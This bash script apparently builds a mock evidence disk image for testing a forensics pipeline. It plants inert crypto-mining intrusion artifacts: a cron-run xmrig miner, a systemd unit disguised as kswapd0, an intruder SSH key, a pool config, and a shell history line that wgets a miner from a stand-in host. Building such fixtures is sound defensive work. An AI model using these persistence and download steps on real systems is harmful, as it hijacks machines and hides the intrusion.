#!/usr/bin/env bash
# evidence-disk.sh IMAGE: the local stack's stand-in for the suspect's disk.
#
# The emulator's EBS volumes hold no data, so the test bench's SSM agent hands
# this image to run-forensics.sh as every evidence volume attached to the
# forensic workstation. It is an ext4 file system built without root
# (mkfs.ext4 -d) with what a crypto-mining intrusion leaves: a miner in cron,
# an attacker's key, a systemd unit, a shell history and a pool config.
set -euo pipefail
umask 022
[[ $# -eq 1 ]] || { echo "usage: evidence-disk.sh IMAGE" >&2; exit 2; }
image=$1
tree=$(mktemp -d)
trap 'rm -rf "$tree"' EXIT
mkdir -p "$tree/etc/cron.d" "$tree/etc/systemd/system" "$tree/root/.ssh" "$tree/tmp/.x" "$tree/usr/local/bin"
printf 'root:x:0:0:root:/root:/bin/bash\nubuntu:x:1000:1000::/home/ubuntu:/bin/bash\n' >"$tree/etc/passwd"
printf '*/10 * * * * root /tmp/.x/xmrig -c /tmp/.x/config.json\n' >"$tree/etc/cron.d/sysupdate"
printf '[Service]\nExecStart=/usr/local/bin/kswapd0\n' >"$tree/etc/systemd/system/kswapd0.service"
printf 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKey intruder@203.0.113.9\n' >"$tree/root/.ssh/authorized_keys"
printf 'wget -q http://203.0.113.9/x -O /tmp/.x/xmrig\n./xmrig -o stratum+tcp://pool.supportxmr.com:3333\n' >"$tree/root/.bash_history"
printf '{"pools":[{"url":"stratum+tcp://pool.supportxmr.com:3333","user":"4Awallet"}]}\n' >"$tree/tmp/.x/config.json"
printf '\177ELF XMRig/6.21 randomx\n' >"$tree/usr/local/bin/kswapd0"
chmod 600 "$tree/root/.ssh/authorized_keys" "$tree/root/.bash_history"
chmod 755 "$tree/usr/local/bin/kswapd0"
mkfs.ext4 -q -F -d "$tree" "$image" 16M
